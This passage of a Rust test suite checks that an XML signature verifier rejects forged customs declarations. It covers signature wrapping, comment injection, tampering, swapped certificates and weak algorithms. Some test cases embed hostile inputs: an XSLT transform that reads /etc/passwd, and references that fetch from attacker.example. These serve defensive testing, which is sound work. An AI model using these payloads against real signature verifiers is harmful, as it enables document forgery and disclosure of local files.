            "<ds:Reference URI=\"{uri}\"><ds:Transforms><ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"></ds:Transform></ds:Transforms><ds:DigestMethod Algorithm=\"http://www.w3.org/2001/04/xmlenc#sha256\"></ds:DigestMethod><ds:DigestValue>AAAA</ds:DigestValue></ds:Reference>"
        )
    };
    let with_hdr_id = replace1(&plain, "<Header>", "<Header Id=\"hdr\">");
    cases.push(case(
        "extra reference to #id of a non-root element (re-signed)",
        resign(
            &replace1(
                &with_hdr_id,
                "</ds:SignedInfo>",
                &format!("{}</ds:SignedInfo>", exc_ref("#hdr")),
            ),
            &key,
        ),
        Reject("unexpected_reference", scf),
    ));
    let with_item_id = replace1(
        &plain,
        "<GoodsItem seq=\"1\">",
        "<GoodsItem seq=\"1\" Id=\"item1\">",
    );
    cases.push(case(
        "only reference is to #id of a GoodsItem (re-signed)",
        resign(
            &replace1(
                &with_item_id,
                "<ds:Reference URI=\"\">",
                "<ds:Reference URI=\"#item1\">",
            ),
            &key,
        ),
        Reject("unexpected_reference", scf),
    ));
    cases.push(case(
        "#id of the document element without the enveloped transform",
        replace1(
            &id,
            "<ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"></ds:Transform>",
            "",
        ),
        Reject("signature_wrapping", sdnf),
    ));
    cases.push(case(
        "a reference into the signature itself (SignatureValue)",
        resign(
            &replace1(
                &plain,
                "</ds:SignedInfo>",
                &format!(
                    "{}</ds:SignedInfo>",
                    exc_ref(&format!("#{sig_id}-value", sig_id = sig_id_of(&plain)))
                ),
            ),
            &key,
        ),
        Reject("reference_into_signature", scf),
    ));
    // The signature's own KeyInfo may be signed (signxml's XAdESSigner does),
    // with canonicalisation only; the rest of the signature may not.
    let x = ecdsa_xades();
    let with_ki_id = replace1(&x, "<ds:KeyInfo>", "<ds:KeyInfo Id=\"ki\">");
    cases.push(case(
        "XAdES: an extra reference to this signature's KeyInfo (re-signed)",
        resign(
            &replace1(
                &with_ki_id,
                "</ds:SignedInfo>",
                &format!("{}</ds:SignedInfo>", exc_ref("#ki")),
            ),
            &key,
        ),
        Pass,
    ));
    cases.push(case(
        "the KeyInfo reference with the enveloped transform (re-signed)",
        resign(
            &replace1(
                &with_ki_id,
                "</ds:SignedInfo>",
                &format!(
                    "{}</ds:SignedInfo>",
                    replace1(
                        &exc_ref("#ki"),
                        "<ds:Transforms>",
                        &format!("<ds:Transforms>{ENVELOPED_T}")
                    )
                ),
            ),
            &key,
        ),
        Reject("forbidden_transform", scf),
    ));
    cases.push(case(
        "the KeyInfo reference as the only reference (re-signed)",
        resign(
            &replace1(
                &replace1(
                    &with_ki_id,
                    "<ds:Reference URI=\"\">",
                    "<ds:Reference URI=\"#ki\">",
                ),
                ENVELOPED_T,
                "",
            ),
            &key,
        ),
        Reject("signature_wrapping", sdnf),
    ));
    let with_obj_id = replace1(&x, "<ds:Object>", "<ds:Object Id=\"obj\">");
    cases.push(case(
        "XAdES: an extra reference to the signature's ds:Object (re-signed)",
        resign(
            &replace1(
                &with_obj_id,
                "</ds:SignedInfo>",
                &format!("{}</ds:SignedInfo>", exc_ref("#obj")),
            ),
            &key,
        ),
        Reject("reference_into_signature", scf),
    ));
    cases.push(case(
        "a reference to an Id that does not exist",
        replace1(
            &plain,
            "<ds:Reference URI=\"\">",
            "<ds:Reference URI=\"#nowhere\">",
        ),
        Reject("reference_unresolved", sdnf),
    ));
    cases.push(case(
        "two references to the document element (re-signed)",
        resign(
            &replace1(
                &plain,
                "</ds:SignedInfo>",
                &format!(
                    "{}</ds:SignedInfo>",
                    replace1(&exc_ref(&format!("#{DECL_ID}")), "<ds:Transforms>", "<ds:Transforms><ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"></ds:Transform>")
                ),
            ),
            &key,
        ),
        Reject("unexpected_reference", scf),
    ));
    // XAdES: the SignedProperties reference points at a copy outside this
    // signature's QualifyingProperties.
    let x = ecdsa_xades();
    let sid = sig_id_of(&x);
    let props = {
        let a = x.find("<xades:SignedProperties").unwrap();
        let b = x.find("</xades:SignedProperties>").unwrap() + "</xades:SignedProperties>".len();
        x[a..b].to_string()
    };
    let copy = props
        .replace(&format!("Id=\"{sid}-signedprops\""), "Id=\"evilprops\"")
        .replacen(
            "<xades:SignedProperties ",
            &format!("<xades:SignedProperties xmlns:xades=\"http://uri.etsi.org/01903/v1.3.2#\" xmlns:ds=\"{DS}\" "),
            1,
        );
    let wrapped_props = replace1(
        &into_header(&x, &copy),
        &format!("URI=\"#{sid}-signedprops\""),
        "URI=\"#evilprops\"",
    );
    cases.push(case(
        "XAdES SignedProperties reference to a copy in the body (re-signed)",
        resign(&wrapped_props, &key),
        Reject("signature_wrapping", sdnf),
    ));
    run("wrapping", cases);
}

fn sig_id_of(doc: &str) -> String {
    let sig = sig_of(doc);
    sig.split("Id=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .to_string()
}

// ---------------------------------------------------------------------------
// Comment injection (CVE-2017-11427 style).
// ---------------------------------------------------------------------------

#[test]
fn comment_injection() {
    let s = ecdsa();
    // NOTE: a comment inside signed text does not change the signed content:
    // URI="" and exclusive c14n drop comments, so the signature still
    // verifies. This is correct XML-DSig behaviour; what made CVE-2017-11427
    // exploitable was the application then reading only the first text node
    // ("KZ26TMG"). Tamga's `Node::text` concatenates every text child, so the
    // business field read from the same tree is the full LRN (checked below).
    let injected = replace1(
        &s,
        &format!("<LRN>{LRN}</LRN>"),
        "<LRN>KZ26TMG<!-- injected -->0000000001</LRN>",
    );
    let doc = Document::parse(injected.as_bytes(), &ParseLimits::default()).unwrap();
    let lrn = doc
        .root()
        .descendants()
        .find(|n| n.is(NS, "LRN"))
        .expect("LRN element");
    assert_eq!(lrn.text(), LRN, "text() must not stop at the comment");
    drop(doc);

    let cases = vec![
        case("comment inside the signed LRN", injected, Pass),
        case(
            "text appended after a comment",
            replace1(
                &s,
                &format!("<LRN>{LRN}</LRN>"),
                &format!("<LRN>{LRN}<!---->9</LRN>"),
            ),
            Reject("digest_mismatch", S::HashFailure),
        ),
        case(
            "comment before the document element",
            replace1(
                &s,
                PROLOG,
                &format!("{PROLOG}<!-- routed via gateway 7 -->\n"),
            ),
            Pass,
        ),
        case(
            "comment inside SignedInfo",
            replace1(&s, "<ds:SignedInfo>", "<ds:SignedInfo><!-- hi -->"),
            Pass,
        ),
        case(
            "comment replacing part of the LRN",
            replace1(
                &s,
                &format!("<LRN>{LRN}</LRN>"),
                "<LRN>KZ26TMG<!--0000000001--></LRN>",
            ),
            Reject("digest_mismatch", S::HashFailure),
        ),
    ];
    run("comments", cases);
}

// ---------------------------------------------------------------------------
// Tampering, KeyInfo games, forbidden shapes and algorithms.
// ---------------------------------------------------------------------------

const SHA256: &str = "http://www.w3.org/2001/04/xmlenc#sha256";
const ECDSA_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256";
const RSA_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256";
const ENVELOPED_T: &str =
    "<ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"></ds:Transform>";

fn key_info_of(doc: &str) -> String {
    let a = doc.find("<ds:KeyInfo>").unwrap();
    let b = doc.find("</ds:KeyInfo>").unwrap() + "</ds:KeyInfo>".len();
    doc[a..b].to_string()
}

fn with_key_info(doc: &str, key_info: &str) -> String {
    replace1(doc, &key_info_of(doc), key_info)
}

fn x509_data(certs: &[&[u8]]) -> String {
    let c: String = certs
        .iter()
        .map(|c| format!("<ds:X509Certificate>{}</ds:X509Certificate>", b64(c)))
        .collect();
    format!("<ds:KeyInfo><ds:X509Data>{c}</ds:X509Data></ds:KeyInfo>")
}

fn flip_signature_value(doc: &str) -> String {
    let a = doc.find("<ds:SignatureValue").unwrap();
    let open = a + doc[a..].find('>').unwrap() + 1;
    let mut bytes = doc.as_bytes().to_vec();
    bytes[open + 5] = if bytes[open + 5] == b'A' { b'B' } else { b'A' };
    String::from_utf8(bytes).unwrap()
}

fn set_signature_value(doc: &str, value: &str) -> String {
    let a = doc.find("<ds:SignatureValue").unwrap();
    let open = a + doc[a..].find('>').unwrap() + 1;
    let close = open + doc[open..].find("</ds:SignatureValue>").unwrap();
    format!("{}{value}{}", &doc[..open], &doc[close..])
}

#[test]
fn tampering() {
    let w = world();
    let s = ecdsa();
    let x = ecdsa_xades();
    let r = signed("KZ", BrokerKind::Rsa, true);
    let key = kz_ecdsa_key();
    let tr = country(&w.pki, "TR");
    let tr_broker = broker(&w.pki, "TR", BrokerKind::Ecdsa);
    let mut cases = vec![
        // Content.
        case(
            "quantity changed",
            replace1(&s, "<Quantity unit=\"pcs\">", "<Quantity unit=\"pcs\">9"),
            Reject("digest_mismatch", S::HashFailure),
        ),
        case("quantity changed (RSA XAdES)", replace1(&r, "<Quantity unit=\"pcs\">", "<Quantity unit=\"pcs\">9"), Reject("digest_mismatch", S::HashFailure)),
        case("currency attribute changed", replace1(&s, "currency=\"USD\"", "currency=\"EUR\""), Reject("digest_mismatch", S::HashFailure)),
        case("a goods item removed", {
            let a = s.find("<GoodsItem seq=\"2\">").unwrap();
            let b = s.find("</GoodsItems>").unwrap();
            format!("{}{}", &s[..a], &s[b..])
        }, Reject("digest_mismatch", S::HashFailure)),
        case("DigestValue changed", replace1(&s, "<ds:DigestValue>", "<ds:DigestValue>AAAA"), Reject("digest_mismatch", S::HashFailure)),
        case("XAdES SigningTime changed", {
            let a = x.find("<xades:SigningTime>").unwrap() + "<xades:SigningTime>".len();
            format!("{}2001{}", &x[..a], &x[a + 4..])
        }, Reject("digest_mismatch", S::HashFailure)),
        // A forger recomputes the digest over forged content but cannot sign.
        case(
            "forged content with recomputed digest",
            redigest(&replace1(&s, "<Quantity unit=\"pcs\">", "<Quantity unit=\"pcs\">9")),
            Reject("signature_invalid", S::SigCryptoFailure),
        ),
        // SignatureValue.
        case("SignatureValue changed (ECDSA)", flip_signature_value(&s), Reject("signature_invalid", S::SigCryptoFailure)),
        case("SignatureValue changed (RSA)", flip_signature_value(&r), Reject("signature_invalid", S::SigCryptoFailure)),
        case("SignatureValue truncated", set_signature_value(&s, "AAAA"), Reject("signature_invalid", S::SigCryptoFailure)),
        case("SignatureValue empty", set_signature_value(&s, ""), Reject("signature_invalid", S::SigCryptoFailure)),
        case("SignatureValue not base64", set_signature_value(&s, "not*base64!"), Reject("malformed_signature", S::FormatFailure)),
        // KeyInfo.
        case(
            "KeyInfo certificates replaced by TR broker's (from KZ)",
            with_key_info(&s, &x509_data(&[&tr_broker.cert_der, &tr.issuing.cert_der])),
            Reject("signature_invalid", S::SigCryptoFailure),
        ),
        case(
            "KeyInfo certificates replaced by TR broker's (from TR)",
            with_key_info(&s, &x509_data(&[&tr_broker.cert_der, &tr.issuing.cert_der])),
            Reject("signature_invalid", S::SigCryptoFailure),
        )
        .origin("TR"),
        case(
            "XAdES: KeyInfo certificates replaced by TR broker's",
            with_key_info(&x, &x509_data(&[&tr_broker.cert_der, &tr.issuing.cert_der])),
            Reject("signing_certificate_mismatch", S::NoSigningCertificateFound),
        ),
        case(
            "TR broker re-signs a KZ declaration, declared from KZ",
            resign(&with_key_info(&s, &x509_data(&[&tr_broker.cert_der, &tr.issuing.cert_der])), &key_of(tr_broker)),
            Reject("untrusted_signer", S::NoCertificateChainFound),
        ),
        case("X509Data removed", with_key_info(&s, "<ds:KeyInfo></ds:KeyInfo>"), Reject("no_signing_certificate", S::NoSigningCertificateFound)),
        case("KeyInfo removed", replace1(&s, &key_info_of(&s), ""), Reject("no_signing_certificate", S::NoSigningCertificateFound)),
        case(
            "X509IssuerSerial only (certificate not carried)",
            with_key_info(&s, "<ds:KeyInfo><ds:X509Data><ds:X509IssuerSerial><ds:X509IssuerName>CN=KZ Demo Issuing CA</ds:X509IssuerName><ds:X509SerialNumber>1</ds:X509SerialNumber></ds:X509IssuerSerial></ds:X509Data></ds:KeyInfo>"),
            Reject("no_signing_certificate", S::NoSigningCertificateFound),
        ),
        case(
            "bare RSAKeyValue only",
            with_key_info(&s, "<ds:KeyInfo><ds:KeyValue><ds:RSAKeyValue><ds:Modulus>xA7SEU+e0yQH5rm9kbCDN9o3aPIo7HbP7tX6WOocLZAtNfyxSZDU16ksL6WjubafOqNEpcwR3RdFsT7bCqnXPBe5ELh5u4VEy19MzxkXRgrMvavzyBpVRgBUwUlV5foK5hhmbktQhyNdy/6LpQRhDUDsTvK+g9Ucj47es9AQJ3U=</ds:Modulus><ds:Exponent>AQAB</ds:Exponent></ds:RSAKeyValue></ds:KeyValue></ds:KeyInfo>"),
            Reject("key_value_only", S::NoSigningCertificateFound),
        ),
        case(
            "KeyValue that does not match the certificate",
            replace1(&s, "</ds:X509Data>", "</ds:X509Data><ds:KeyValue><ds:RSAKeyValue><ds:Modulus>AQAB</ds:Modulus><ds:Exponent>AQAB</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>"),
            Reject("malformed_signature", S::FormatFailure),
        ),
        case(
            "RetrievalMethod only",
            with_key_info(&s, "<ds:KeyInfo><ds:RetrievalMethod URI=\"http://attacker.example/cert.der\" Type=\"http://www.w3.org/2000/09/xmldsig#rawX509Certificate\"/></ds:KeyInfo>"),
            Reject("indirection_forbidden", S::SigConstraintsFailure),
        ),
        case(
            "RetrievalMethod next to the certificates",
            replace1(&s, "</ds:X509Data>", "</ds:X509Data><ds:RetrievalMethod URI=\"#elsewhere\"/>"),
            Reject("indirection_forbidden", S::SigConstraintsFailure),
        ),
        case(
            "dsig11:KeyInfoReference",
            replace1(&s, "</ds:X509Data>", "</ds:X509Data><dsig11:KeyInfoReference xmlns:dsig11=\"http://www.w3.org/2009/xmldsig11#\" URI=\"#k\"/>"),
            Reject("indirection_forbidden", S::SigConstraintsFailure),
        ),
        case(
            "ds:Manifest in a ds:Object",
            into_sig_doc(&s, &format!("<ds:Object><ds:Manifest><ds:Reference URI=\"http://attacker.example/annex.pdf\"><ds:DigestMethod Algorithm=\"{SHA256}\"></ds:DigestMethod><ds:DigestValue>AAAA</ds:DigestValue></ds:Reference></ds:Manifest></ds:Object>")),
            Reject("indirection_forbidden", S::SigConstraintsFailure),
        ),
        // Transforms and URIs.
        case(
            "XSLT transform",
            replace1(&s, ENVELOPED_T, &format!("{ENVELOPED_T}<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"><xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\"><xsl:template match=\"/\"><xsl:copy-of select=\"document('file:///etc/passwd')\"/></xsl:template></xsl:stylesheet></ds:Transform>")),
            Reject("forbidden_transform", S::SigConstraintsFailure),
        ),
        case(
            "XPath transform",
            replace1(&s, ENVELOPED_T, &format!("{ENVELOPED_T}<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><ds:XPath>not(ancestor-or-self::*[local-name()='Totals'])</ds:XPath></ds:Transform>")),
            Reject("forbidden_transform", S::SigConstraintsFailure),
        ),
        case(
            "XPath Filter 2.0 transform",
            replace1(&s, ENVELOPED_T, &format!("{ENVELOPED_T}<ds:Transform Algorithm=\"http://www.w3.org/2002/06/xmldsig-filter2\"><dsig-xpath:XPath xmlns:dsig-xpath=\"http://www.w3.org/2002/06/xmldsig-filter2\" Filter=\"subtract\">//Totals</dsig-xpath:XPath></ds:Transform>")),
            Reject("forbidden_transform", S::SigConstraintsFailure),
        ),
        case(
            "base64 transform",
            replace1(&s, ENVELOPED_T, &format!("{ENVELOPED_T}<ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#base64\"></ds:Transform>")),
            Reject("forbidden_transform", S::SigConstraintsFailure),
        ),
        case(
            "unknown transform URI",
            replace1(&s, ENVELOPED_T, &format!("{ENVELOPED_T}<ds:Transform Algorithm=\"urn:attacker:transform\"></ds:Transform>")),
            Reject("forbidden_transform", S::SigConstraintsFailure),
        ),
        case(
            "external URI reference (http)",
            replace1(&s, "<ds:Reference URI=\"\">", "<ds:Reference URI=\"http://attacker.example/declaration.xml\">"),
            Reject("external_reference", S::SigConstraintsFailure),
        ),
        case(
            "second reference to file:///etc/passwd",
            replace1(&s, "</ds:SignedInfo>", &format!("<ds:Reference URI=\"file:///etc/passwd\"><ds:DigestMethod Algorithm=\"{SHA256}\"></ds:DigestMethod><ds:DigestValue>AAAA</ds:DigestValue></ds:Reference></ds:SignedInfo>")),
            Reject("external_reference", S::SigConstraintsFailure),
        ),
        // NOTE: reason.rs documents XPointer under ExternalReference, but the
        // customs shape check reports it as a forbidden transform; see the
        // report. Both are SIG_CONSTRAINTS_FAILURE.
        case(
            "xpointer(/) URI",
            replace1(&s, "<ds:Reference URI=\"\">", "<ds:Reference URI=\"#xpointer(/)\">"),
            Reject("forbidden_transform", S::SigConstraintsFailure),
        ),
        case(
            "xpointer(id('…')) URI",
            replace1(&s, "<ds:Reference URI=\"\">", &format!("<ds:Reference URI=\"#xpointer(id('{DECL_ID}'))\">")),
            Reject("forbidden_transform", S::SigConstraintsFailure),
        ),
        case(
            "reference without URI",
            replace1(&s, "<ds:Reference URI=\"\">", "<ds:Reference>"),
            Reject("unexpected_reference", S::SigConstraintsFailure),
        ),
        // Algorithms.
        case(
            "HMAC-SHA256 SignatureMethod",
            replace1(&s, ECDSA_SHA256, "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"),
            Reject("hmac_forbidden", S::CryptoConstraintsFailure),
        ),
        case(
            "HMAC-SHA1 with HMACOutputLength 0",
            replace1(
                &s,
                &format!("<ds:SignatureMethod Algorithm=\"{ECDSA_SHA256}\"></ds:SignatureMethod>"),
                "<ds:SignatureMethod Algorithm=\"http://www.w3.org/2000/09/xmldsig#hmac-sha1\"><ds:HMACOutputLength>0</ds:HMACOutputLength></ds:SignatureMethod>",
            ),
            Reject("hmac_forbidden", S::CryptoConstraintsFailure),
        ),
        case(
            "SHA-1 reference digest (re-signed)",
            resign(&replace1(&s, SHA256, "http://www.w3.org/2000/09/xmldsig#sha1"), &key),
            Reject("weak_algorithm", S::CryptoConstraintsFailure),
        ),
        case(
            "RSA-SHA1 SignatureMethod",
            replace1(&r, RSA_SHA256, "http://www.w3.org/2000/09/xmldsig#rsa-sha1"),
            Reject("weak_algorithm", S::CryptoConstraintsFailure),
        ),
        case(
            "ECDSA-SHA1 SignatureMethod",
            replace1(&s, ECDSA_SHA256, "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1"),
            Reject("weak_algorithm", S::CryptoConstraintsFailure),
        ),
        case(
            "MD5 reference digest",
            replace1(&s, SHA256, "http://www.w3.org/2001/04/xmldsig-more#md5"),
            Reject("weak_algorithm", S::CryptoConstraintsFailure),
        ),
        case(
            "RSA-MD5 SignatureMethod",
            replace1(&r, RSA_SHA256, "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"),
            Reject("weak_algorithm", S::CryptoConstraintsFailure),
        ),
        case(
            "SHA-224 reference digest",
            replace1(&s, SHA256, "http://www.w3.org/2001/04/xmldsig-more#sha224"),
            Reject("weak_algorithm", S::CryptoConstraintsFailure),
        ),
        case(
            "unknown SignatureMethod URI",
            replace1(&s, ECDSA_SHA256, "urn:attacker:none"),
            Reject("algorithm_not_allowed", S::CryptoConstraintsFailure),
        ),
        case(
            "unknown DigestMethod URI",
            replace1(&s, SHA256, "urn:attacker:crc32"),
            Reject("algorithm_not_allowed", S::CryptoConstraintsFailure),
        ),
        case(
            "unknown CanonicalizationMethod URI",
            replace1(&s, "<ds:CanonicalizationMethod Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"></ds:CanonicalizationMethod>", "<ds:CanonicalizationMethod Algorithm=\"urn:attacker:c14n\"></ds:CanonicalizationMethod>"),
            Reject("algorithm_not_allowed", S::CryptoConstraintsFailure),
        ),
        case(
            "DSA-SHA1 SignatureMethod",
            replace1(&s, ECDSA_SHA256, "http://www.w3.org/2000/09/xmldsig#dsa-sha1"),
            Reject("algorithm_not_allowed", S::CryptoConstraintsFailure),
        ),
        case(
            "GOST R 34.10-2012 SignatureMethod over an ECDSA key",
            replace1(&s, ECDSA_SHA256, "urn:ietf:params:xml:ns:cpxmlsec:algorithms:gostr34102012-gostr34112012-256"),
            Reject("signature_invalid", S::SigCryptoFailure),
        ),
        case(
            "legacy GOST 34.310-2004 SignatureMethod (not implemented)",
            replace1(&s, ECDSA_SHA256, "http://www.w3.org/2001/04/xmldsig-more#gost34310-gost34311"),
            Reject("unsupported_algorithm", S::CryptoConstraintsFailure),
        ),
        case(
            "GOST SignatureMethod from a country without GOST",
            replace1(&s, ECDSA_SHA256, "urn:ietf:params:xml:ns:pkigovkz:xmlsec:algorithms:gostr34102015-gostr34112015-512"),
            Reject("algorithm_not_allowed_for_country", S::CryptoConstraintsFailure),
        )
        .origin("TR"),
        // Budgets.
        case(
            "17 references",
            replace1(&s, "</ds:SignedInfo>", &format!("{}</ds:SignedInfo>", format!("<ds:Reference URI=\"#{DECL_ID}\"><ds:DigestMethod Algorithm=\"{SHA256}\"></ds:DigestMethod><ds:DigestValue>AAAA</ds:DigestValue></ds:Reference>").repeat(16))),
            Reject("budget_exceeded", S::FormatFailure),
        ),
        case(
            "1000 references",
            replace1(&s, "</ds:SignedInfo>", &format!("{}</ds:SignedInfo>", format!("<ds:Reference URI=\"\"><ds:DigestMethod Algorithm=\"{SHA256}\"></ds:DigestMethod><ds:DigestValue>AAAA</ds:DigestValue></ds:Reference>").repeat(1000))),
            Reject("budget_exceeded", S::FormatFailure),
        ),
        case(
            "5 transforms in one reference",
            replace1(&s, ENVELOPED_T, &ENVELOPED_T.repeat(4)),
            Reject("budget_exceeded", S::FormatFailure),
        ),
        case(
            "9 certificates in KeyInfo",
            replace1(&s, "</ds:X509Data>", &format!("{}</ds:X509Data>", format!("<ds:X509Certificate>{}</ds:X509Certificate>", b64(&w.pki.country("KZ").unwrap().root.cert_der)).repeat(7))),
            Reject("budget_exceeded", S::FormatFailure),
        ),
        case(
            "9 ds:Object elements",
            into_sig_doc(&s, &"<ds:Object/>".repeat(9)),
            Reject("budget_exceeded", S::FormatFailure),
        ),
        // XAdES.
        case(
            "XAdES SigningCertificateV2 digest mismatch",
            {
                let a = x.find("<xades:CertDigest>").unwrap();
                // The signer writes the CertDigest's DigestValue with its own
                // xmlns:ds (canonical form), so find the end of its start tag.
                let dv = a + x[a..].find("<ds:DigestValue").unwrap();
                let dv = dv + x[dv..].find('>').unwrap() + 1;
                format!("{}AAAA{}", &x[..dv], &x[dv + 4..])
            },
            Reject("signing_certificate_mismatch", S::NoSigningCertificateFound),
        ),
        case(
            "XAdES SignedProperties reference removed (re-signed)",
            {
                let a = x.find("<ds:Reference Type=").unwrap();
                let b = a + x[a..].find("</ds:Reference>").unwrap() + "</ds:Reference>".len();
                resign(&format!("{}{}", &x[..a], &x[b..]), &key)
            },
            Reject("signed_properties_not_signed", S::SigConstraintsFailure),
        ),
        case(
            "XAdES QualifyingProperties Target wrong",
            replace1(&x, &format!("Target=\"#{}\"", sig_id_of(&x)), "Target=\"#someone-else\""),
            Reject("malformed_signature", S::FormatFailure),
        ),
        case(
            "XAdES signature Id removed (Target dangles)",
            replace1(&x, &format!("<ds:Signature xmlns:ds=\"{DS}\" Id=\"{}\"", sig_id_of(&x)), &format!("<ds:Signature xmlns:ds=\"{DS}\"")),
            Reject("malformed_signature", S::FormatFailure),
        ),
        case(
            "XAdES second QualifyingProperties",
            {
                let a = x.find("<ds:Object>").unwrap();
                let b = x.find("</ds:Object>").unwrap() + "</ds:Object>".len();
                let obj = x[a..b].replace("-signedprops\"", "-signedprops2\"");
                replace1(&x, "</ds:Signature>", &format!("{obj}</ds:Signature>"))
            },
            Reject("malformed_signature", S::FormatFailure),
        ),
        case(
            "plain XML-DSig under a require_xades policy",
            s.clone(),
            Reject("signed_properties_not_signed", S::SigConstraintsFailure),
        )
        .policy(Policy {
            require_xades: true,
            ..Policy::customs()
        }),
        // Schema.
        case(
            "SignedInfo removed",
            {
                let a = s.find("<ds:SignedInfo>").unwrap();
                let b = s.find("</ds:SignedInfo>").unwrap() + "</ds:SignedInfo>".len();
                format!("{}{}", &s[..a], &s[b..])
            },
            Reject("malformed_signature", S::FormatFailure),
        ),
        case(
            "SignatureMethod without Algorithm",
            replace1(&s, &format!("<ds:SignatureMethod Algorithm=\"{ECDSA_SHA256}\"></ds:SignatureMethod>"), "<ds:SignatureMethod/>"),
            Reject("malformed_signature", S::FormatFailure),
        ),
        case(
            "text between SignedInfo children",
            replace1(&s, "<ds:SignatureMethod", "sneaky<ds:SignatureMethod"),
            Reject("malformed_signature", S::FormatFailure),
        ),
        case(
            "element inside SignatureValue",
            replace1(&s, "</ds:SignatureValue>", "<x/></ds:SignatureValue>"),
            Reject("malformed_signature", S::FormatFailure),
        ),
        case(
            "DigestValue not base64",
            replace1(&s, "<ds:DigestValue>", "<ds:DigestValue>%%%"),
            Reject("malformed_signature", S::FormatFailure),
        ),
    ];
    // XAdES SigningCertificate (v1) with weaker CertDigest algorithms.
    let kz_cert = &broker(&w.pki, "KZ", BrokerKind::Ecdsa).cert_der;
    let v1 = |alg_uri: &str, alg: DigestAlgorithm| {
        let a = x.find("<xades:SigningCertificateV2>").unwrap();
        let b = x.find("</xades:SigningCertificateV2>").unwrap()
            + "</xades:SigningCertificateV2>".len();
        let v1 = format!(
            "<xades:SigningCertificate><xades:Cert><xades:CertDigest><ds:DigestMethod Algorithm=\"{alg_uri}\"></ds:DigestMethod><ds:DigestValue>{}</ds:DigestValue></xades:CertDigest></xades:Cert></xades:SigningCertificate>",
            b64(&digest_bytes(alg, kz_cert))
        );
        resign(&format!("{}{v1}{}", &x[..a], &x[b..]), &key)
    };
    cases.push(case(
        "XAdES SigningCertificate v1, SHA-256 (re-signed)",
        v1(SHA256, DigestAlgorithm::Sha256),
        Pass,
    ));
    cases.push(case(
        "XAdES SigningCertificate v1, SHA-1 CertDigest (re-signed)",
        v1(
            "http://www.w3.org/2000/09/xmldsig#sha1",
            DigestAlgorithm::Sha1,
        ),
        Reject("weak_algorithm", S::CryptoConstraintsFailure),
    ));
    cases.push(case(
        "XAdES SigningCertificate v1, MD5 CertDigest (re-signed)",
        {
            let d = v1(SHA256, DigestAlgorithm::Sha256);
            resign(&replace1(&d, &format!("<xades:CertDigest><ds:DigestMethod Algorithm=\"{SHA256}\"></ds:DigestMethod>"), "<xades:CertDigest><ds:DigestMethod Algorithm=\"http://www.w3.org/2001/04/xmldsig-more#md5\"></ds:DigestMethod>"), &key)
        },
        Reject("weak_algorithm", S::CryptoConstraintsFailure),
    ));
    cases.push(case(
        "KeyInfo certificate is garbage",
        with_key_info(&s, "<ds:KeyInfo><ds:X509Data><ds:X509Certificate>AAAAAAAA</ds:X509Certificate></ds:X509Data></ds:KeyInfo>"),
        Reject("no_signing_certificate", S::NoSigningCertificateFound),
    ));
    cases.push(case(
        "garbage next to the signer certificate",
        replace1(
            &s,
            "</ds:X509Data>",
            "<ds:X509Certificate>AAAAAAAA</ds:X509Certificate></ds:X509Data>",
        ),
        Reject("no_signing_certificate", S::NoSigningCertificateFound),
    ));
    cases.push(case(
        "two candidate signer certificates (KZ and TR brokers)",
        replace1(
            &s,
            "</ds:X509Data>",
            &format!(
                "<ds:X509Certificate>{}</ds:X509Certificate></ds:X509Data>",
                b64(&tr_broker.cert_der)
            ),
        ),
        Reject("no_signing_certificate", S::NoSigningCertificateFound),
    ));
    cases.push(case(
        "ds namespace misspelt (no XML-DSig signature at all)",
        replace1(
            &s,
            "xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"",
            "xmlns:ds=\"http://www.w3.org/2000/09/xmldsig\"",
        ),
        Reject("no_signature", S::FormatFailure),
    ));
    cases.push(case(
        "RSA SignatureMethod with an EC certificate",
        replace1(&s, ECDSA_SHA256, RSA_SHA256),
        Reject("signature_invalid", S::SigCryptoFailure),
    ));
    // A re-signed document whose only change is harmless still verifies: the
    // refusals above are about shape, not about the helper.
    cases.push(case("re-signed, unchanged shape", resign(&s, &key), Pass));
    run("tampering", cases);
}

/// A digest of arbitrary bytes through the engine's own reference
/// machinery (base64 transform over an element holding the bytes).
fn digest_bytes(alg: DigestAlgorithm, data: &[u8]) -> Vec<u8> {
    let limits = ParseLimits::default();
    let xml = format!("<d Id=\"d\">{}</d>", b64(data));
    let doc = Document::parse(xml.as_bytes(), &limits).unwrap();
    let r = Reference {
        node: doc.root(),
        id: None,
        uri: Some("#d".into()),
        type_uri: None,
        transforms: vec![Transform::Base64],
        digest: alg,
        digest_value: Vec::new(),
    };
    digest_reference(&doc, doc.root(), &r, &NoExternal, &limits).unwrap()
}

/// Inserts `what` before `</ds:Signature>` in a whole document.
fn into_sig_doc(doc: &str, what: &str) -> String {
    replace1(doc, "</ds:Signature>", &format!("{what}</ds:Signature>"))
}

// ---------------------------------------------------------------------------
// Trust: who signed, and were they entitled to.
// ---------------------------------------------------------------------------

/// The committed RSA-1024 fixture (see tests/fixtures/attacks/README.md).
fn fixture(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/fixtures/attacks")
        .join(name)
}

#[test]
fn trust_attacks() {
    let w = world();
    let kz = country(&w.pki, "KZ");
    let rogue_kz = country(&w.rogue, "KZ");
    let s = ecdsa();
    let decl = declaration();
    let by = |kind: BrokerKind| sign_as(kz, broker(&w.pki, "KZ", kind), false, &decl);
    let rogue_broker = broker(&w.rogue, "KZ", BrokerKind::Ecdsa);
    let weak = std::fs::read(fixture("weak-rsa1024-signed.xml")).expect("RSA-1024 fixture");
    let ncf = S::NoCertificateChainFound;
    let cases = vec![
